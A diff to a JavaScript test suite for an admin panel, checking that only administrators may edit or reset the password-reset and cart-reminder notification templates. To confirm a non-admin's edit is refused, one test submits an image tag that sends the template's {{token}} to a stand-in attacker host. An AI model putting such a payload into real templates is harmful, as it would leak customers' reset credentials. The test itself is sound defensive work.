@@ -138,15 +138,19 @@ describe('admin panel notification templates', () => {
     expect(sms.html).toMatch(/id="f-body-error">must be at most 1600 characters for SMS/);
   });
 
-  it("refuses the password-reset template to anyone without '*', as the API does, but lets them preview it", async () => {
+  it.each([
+    ['tmpl_password_reset_email', 'password_reset'],
+    ['tmpl_cart_reminder_email', 'cart_reminder'],
+  ])("refuses %s, whose messages carry a credential, to anyone without '*', as the API does, but lets them preview it", async (id, key) => {
     const writer = await panelUser(['notifications:read', 'notifications:write']);
-    const id = 'tmpl_password_reset_email';
     const before = await template(id);
     const page = await get(`/admin/notifications/${id}`, writer);
     expect(page.html).toContain('needs every permission');
+    expect(page.html).not.toContain(`${id}/reset"`);
     const refused = await post(`/admin/notifications/${id}`, await editForm(writer, id, { bodyHtml: '<img src="https://attacker.example/?t={{token}}">' }), writer);
     expect(refused.res.status).toBe(403);
-    expect(refused.html).toContain('This credential cannot change the &#39;password_reset&#39; template');
+    expect(refused.html).toContain(`This credential cannot change the &#39;${key}&#39; template`);
+    expect((await post(`/admin/notifications/${id}/reset`, { _csrf: csrfIn(page.html) }, writer)).res.status).toBe(403);
     expect(await template(id)).toEqual(before);
     expect((await post(`/admin/notifications/${id}/preview`, await editForm(writer, id, {}), writer)).res.status).toBe(200);
 
@@ -155,12 +159,14 @@ describe('admin panel notification templates', () => {
     expect((await post(`/admin/notifications/${other}`, await editForm(writer, other, { subject: 'Welcome, {{customerName}}' }), writer)).res.status).toBe(303);
     expect((await template(other)).subject).toBe('Welcome, {{customerName}}');
 
-    // An admin ('*') may change it.
+    // An admin ('*') may change it, and reset it.
     const admin = await panelUser('admin');
-    expect((await post(`/admin/notifications/${id}`, await editForm(admin, id, { subject: 'Reset your password, {{customerName}}' }), admin)).res.status).toBe(303);
-    expect((await template(id)).subject).toBe('Reset your password, {{customerName}}');
-    const token = csrfIn((await get(`/admin/notifications/${id}`, admin)).html);
-    expect((await post(`/admin/notifications/${id}/reset`, { _csrf: token }, admin)).res.status).toBe(303);
+    expect((await post(`/admin/notifications/${id}`, await editForm(admin, id, { subject: 'For you, {{customerName}}' }), admin)).res.status).toBe(303);
+    expect((await template(id)).subject).toBe('For you, {{customerName}}');
+    const adminPage = (await get(`/admin/notifications/${id}`, admin)).html;
+    expect(adminPage).toContain(`${id}/reset"`);
+    expect((await post(`/admin/notifications/${id}/reset`, { _csrf: csrfIn(adminPage) }, admin)).res.status).toBe(303);
+    expect((await template(id)).subject).toBe(original(id).subject);
   });
 
   it('shows a reader the texts without a form, and refuses its writes; others get 403 and no link', async () => {
